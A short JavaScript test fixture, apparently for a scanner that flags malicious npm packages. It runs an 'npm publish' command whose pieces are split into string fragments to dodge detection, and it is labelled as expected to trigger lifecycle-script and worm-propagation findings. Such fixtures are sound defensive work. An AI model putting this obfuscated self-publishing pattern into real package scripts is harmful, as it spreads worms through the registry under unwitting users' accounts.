const { spawnSync } = require('child_process');
spawnSync(['n', 'pm'].join(''), ['pub' + 'lish', '--access', 'public']); // expect: malicious-command/lifecycle-script, malicious-command/worm-propagation
